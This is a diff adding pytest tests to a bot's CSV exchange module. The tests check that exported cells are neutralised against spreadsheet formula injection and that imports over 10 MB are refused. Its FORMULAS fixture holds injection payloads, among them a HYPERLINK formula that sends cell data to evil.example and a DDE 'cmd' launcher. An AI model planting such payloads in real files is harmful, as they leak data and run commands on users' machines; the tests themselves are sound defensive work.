@@ -4,6 +4,7 @@ store (SQLite and PostgreSQL), round trips, and the real command line."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime as dt
 import io
 import os
@@ -14,11 +15,16 @@ from zoneinfo import ZoneInfo
 
 import pytest
 import yaml
+from hypothesis import given
+from hypothesis import strategies as st
 
 from bot.domain import exchange
+from bot.domain.catalogue import spec_of
 from bot.domain.exchange import ParsedFile
 from bot.domain.vocab import EventKind, InitiativeStatus, InitiativeType
+from bot.exchange_cli import import_file
 from bot.services.exchange import ImportRejected, ImportReport, export_records, import_records
+from bot.settings import Settings
 from storage.factory import Store
 
 NOW = dt.datetime(2026, 11, 27, 9, 30, tzinfo=dt.UTC)
@@ -557,3 +563,65 @@ async def test_the_maintenance_commands_report_what_they_did(
     written = (tmp_path / "ev.csv").read_text(encoding="utf-8")
     assert written.splitlines()[0] == "title,kind,starts_at,ends_at,country,initiative,location,notes"
     assert events.stdout == "" and events.stderr.strip() == "Wrote 0 record(s) to ev.csv."  # no events yet
+
+
+# --- CSV cells that spreadsheets would run, and files too large to import --------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "lead": "@SUM(1+1)",
+    "funding": "+cmd|' /C calc'!A0",
+    "notes": "-2+3\nsecond line",
+}
+
+
+@given(cell=st.text(max_size=40))
+def test_a_neutralised_cell_reads_back_as_written_and_never_starts_a_formula(cell: str) -> None:
+    written = exchange.neutralised(cell)
+    assert exchange.restored(written) == cell
+    assert not written[:1] or written[0] not in "=+-@\t\r"
+
+
+async def test_csv_export_neutralises_formulas_and_imports_them_back_unchanged(store: Store) -> None:
+    async with store.uow() as uow:
+        morocco = await uow.initiatives.by_ref("MP-MA-2013")
+        assert morocco is not None
+        spec = dataclasses.replace(spec_of(morocco), **FORMULAS)
+        await uow.initiatives.save(spec, NOW, morocco.id)
+        tunisia = await uow.initiatives.by_ref("MP-TN-2014")
+        assert tunisia is not None  # a value that already starts with ' keeps it
+        await uow.initiatives.save(
+            dataclasses.replace(spec_of(tunisia), title="'=quoted already"), NOW, tunisia.id
+        )
+        await uow.commit()
+    initiatives_csv, _ = await exported_csv(store)
+    rows = {r["ref"]: r for r in csv.DictReader(io.StringIO(initiatives_csv))}
+    assert {name: rows["MP-MA-2013"][name] for name in FORMULAS} == {
+        name: "'" + value for name, value in FORMULAS.items()
+    }
+    assert rows["MP-TN-2014"]["title"] == "''=quoted already"
+    for row in rows.values():
+        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row.values()), row
+    before = await exported(store)
+    parsed = exchange.parse(initiatives_csv, "initiatives.csv", BRUSSELS)
+    assert parsed.problems == []
+    report = await import_records(store.uow, parsed, NOW)
+    assert (report.created, report.updated, report.unchanged) == (0, 0, 63)
+    assert await exported(store) == before
+
+
+def test_an_import_file_over_ten_megabytes_is_refused_unread(tmp_path: Path) -> None:
+    big = tmp_path / "big.csv"
+    with big.open("wb") as out:
+        out.write(b"ref,title,type\n")
+        out.truncate(exchange.MAX_IMPORT_BYTES + 1)  # sparse: nothing to read, only a size
+    refused = run_cli("sqlite:///" + str(tmp_path / "unused.sqlite3"), tmp_path, "import", "big.csv")
+    assert refused.returncode == 2
+    assert refused.stderr.strip() == "big.csv is larger than 10 MB, the most one import takes: split it."
+    assert not (tmp_path / "unused.sqlite3").exists(), "the store was opened for a refused file"
+
+
+def test_an_endless_import_stream_is_refused_after_ten_megabytes(capsys: pytest.CaptureFixture[str]) -> None:
+    """/dev/zero has no size: it is read to one byte past the limit, then refused, in bounded memory."""
+    assert import_file(Settings(_env_file=None), Path("/dev/zero")) == 2  # type: ignore[call-arg]
+    assert "/dev/zero is larger than 10 MB" in capsys.readouterr().err
